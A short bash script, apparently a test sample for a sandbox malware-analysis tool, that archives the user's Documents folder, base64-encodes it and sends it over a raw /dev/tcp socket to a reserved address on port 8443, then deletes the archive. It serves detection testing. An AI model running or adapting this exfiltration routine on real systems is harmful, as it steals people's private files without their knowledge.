#!/bin/bash
# Collection and exfiltration over a raw TCP socket: tar of ~/Documents, base64 and sent through /dev/tcp to port 8443.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
tar czf /var/tmp/.d.tgz -C /home/dmitchell Documents
exec 3<>/dev/tcp/203.0.113.5/8443
base64 -w0 /var/tmp/.d.tgz >&3
exec 3>&-
rm -f /var/tmp/.d.tgz
echo sent
